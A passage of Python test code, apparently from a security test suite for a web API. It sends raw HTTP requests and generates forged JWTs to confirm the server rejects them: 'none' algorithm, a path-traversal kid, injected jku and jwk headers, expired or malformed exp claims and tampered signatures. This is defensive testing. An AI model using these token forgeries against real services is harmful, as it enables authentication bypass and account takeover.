    "B.8 143": f"{_LOADED}::test_opposite_streams_never_show_a_deadlock",
    "B.8 148": "tests/starter/test_users.py::test_registering_one_name_fifty_times_at_once",
}  # fmt: skip
"""Those that one request does not show, and the tests that show them."""


# how they are sent


@dataclass(frozen=True)
class Answer:
    """What came back, before the connection ended."""

    status: int
    headers: dict[str, str]
    body: bytes

    @property
    def told(self) -> Told:
        """Status, slug and the first pointer; a slug of `-` where an error is no document."""
        if self.headers.get("content-type") != "application/problem+json":
            return Told(self.status, "-" if self.status >= 400 else "")
        document = json.loads(self.body.decode("utf-8"))
        pointers = [each["pointer"] for each in document.get("errors", ())]
        return Told(self.status, document["type"].rpartition("/")[2], *pointers[:1])


class Stage:
    """A served app, and what the rows speak of: people, posts, accounts.

    Args:
        url: of the app.
    """

    def __init__(self, url: str) -> None:
        host, _, port = url.removeprefix("http://").partition(":")
        self._address = (host, int(port))
        self._numbers = count(time.time_ns() // 1_000_000)
        self.kept: dict[str, str] = {}

    def set_up(self) -> None:
        """Make ada, bob and the administrator's tokens; ada's post; an account for each."""
        for name in ("ada", "bob"):
            unique = f"{name}-{next(self._numbers)}"
            self.kept[f"name:{name}"] = unique
            user = {"username": unique, "email": f"{unique}@example.com", "password": PASSWORD}
            self._make(Ask(f"POST {API}/users", json.dumps(user).encode(), (JSON,), keep=name))
            self._sign_in(name, unique)
        self._sign_in("admin", ADMIN["username"])
        post = b'{"title": "On looms", "content": "They weave."}'
        self._make(Ask(f"POST {API}/posts", post, (JSON,), "ada", keep="post"))
        for name, who in (("account", "ada"), ("theirs", "bob")):
            self._make(Ask(f"POST {API}/accounts", b"{}", (JSON,), who, keep=name))
            self._make(_deposit(f"<{name}>", "1000.00"))
        self.kept |= {f"forged:{name}": token for name, token in forged(self.kept["token:ada"])}

    def _sign_in(self, who: str, name: str) -> None:
        answer = self.send(_login(name, PASSWORD), self._number())
        self.kept[f"token:{who}"] = json.loads(answer.body)["access_token"]

    def _make(self, ask: Ask) -> None:
        answer = self.send(ask, self._number())
        assert answer.status == 201, answer

    def _number(self) -> str:
        return str(next(self._numbers))

    def answer_to(self, row: Row) -> Answer:
        """Send a row's requests, each on a connection of its own; the last one's answer."""
        number = self._number()
        for ask in row.before:
            self.send(ask, number)
        return self.send(row.sent, number)

    def send(self, sent: Ask | Raw, number: str) -> Answer:
        """Send one request, and read until the server closes."""
        if isinstance(sent, Raw):
            pieces = tuple(self._filled(piece, number) for piece in sent.pieces)
            return self._say(pieces)
        answer = self._say((self._written(sent, number),))
        if sent.keep:
            self.kept[sent.keep] = str(json.loads(answer.body)["id"])
        return answer

    def _written(self, ask: Ask, number: str) -> bytes:
        route = self._filled(ask.route.encode(), number)
        body = None if ask.body is None else self._filled(ask.body, number)
        lines = [route + b" HTTP/1.1", b"Host: localhost", b"Connection: close"]
        if ask.who:
            lines.append(b"Authorization: Bearer " + self.kept[f"token:{ask.who}"].encode())
        lines += [self._filled(f"{name}: {value}".encode(), number) for name, value in ask.headers]
        if body is not None:
            lines.append(b"Content-Length: %d" % len(body))
        return b"\r\n".join(lines) + b"\r\n\r\n" + (body or b"")

    def _filled(self, text: bytes, number: str) -> bytes:
        values = {**self.kept, "n": number}

        def value(found: re.Match[bytes]) -> bytes:
            return values.get(found[1].decode("latin-1"), found[0].decode("latin-1")).encode()

        return re.sub(rb"<([a-z][a-zA-Z0-9 :-]*)>", value, text) if b"<" in text else text

    def _say(self, pieces: tuple[bytes, ...]) -> Answer:
        with socket.create_connection(self._address, timeout=20) as connection:
            try:
                for piece in pieces:
                    connection.sendall(piece)
            except OSError:
                pass  # refused in the middle of it; the answer may be there all the same
            got = bytearray()
            try:
                while part := connection.recv(1 << 16):
                    got += part
            except ConnectionResetError:
                pass
        return _read(bytes(got))


def _read(got: bytes) -> Answer:
    head, _, body = got.partition(b"\r\n\r\n")
    first, *lines = head.decode("latin-1").split("\r\n")
    headers = {
        name.lower(): value.strip() for name, _, value in (line.partition(":") for line in lines)
    }
    assert first.startswith("HTTP/1."), got[:200]
    return Answer(int(first.split()[1]), headers, body)


def forged(token: str) -> Iterator[tuple[str, str]]:
    """Tokens that must not hold, made of one that does, by the key that signed it."""
    head, claims, signature = token.split(".")
    header, payload = _decoded(head), _decoded(claims)
    now = int(time.time())
    signed: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
        "106 a path as kid": ({**header, "kid": "../../dev/null"}, payload),
        "106 jku": ({**header, "jku": "http://127.0.0.1:1/keys", "kid": "a"}, payload),
        "106 jwk": ({**header, "jwk": {"kty": "oct", "k": "YQ"}, "kid": "a"}, payload),
        "106 crit": ({**header, "crit": ["exp"]}, payload),
        "107 expired": (header, {**payload, "iat": now - 2000, "exp": now - 1000}),
        "107 ahead": (header, {**payload, "nbf": now + 1000}),
        "107 exp missing": (header, {name: payload[name] for name in payload.keys() - {"exp"}}),
        "107 exp as text": (header, {**payload, "exp": str(payload["exp"])}),
        "107 exp far away": (header, {**payload, "exp": 10**20}),
        "107 exp below zero": (header, {**payload, "exp": -1}),
    }
    for name, (changed, said) in signed.items():
        yield name, _signed(_encoded(json.dumps(changed)), _encoded(json.dumps(said)))
    twice = json.dumps(payload)[:-1] + ', "sub": "1"}'
    yield "109 a claim twice", _signed(head, _encoded(twice))
    yield "109 padding", token + "="
    yield "109 other letters", f"{head}.{claims}.{signature[:-2]}\u00e9\u00e9"
    for name in ("none", "nOnE"):
        yield f"104 {name}", _encoded(json.dumps({**header, "alg": name})) + f".{claims}."
    yield "104 no signature", f"{head}.{claims}."


def _signed(head: str, claims: str) -> str:
    made = hmac.digest(KEY.encode(), f"{head}.{claims}".encode(), "sha256")
    return f"{head}.{claims}.{base64.urlsafe_b64encode(made).decode().rstrip('=')}"


def _encoded(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def _decoded(part: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(base64.urlsafe_b64decode(part + "=="))
    return found
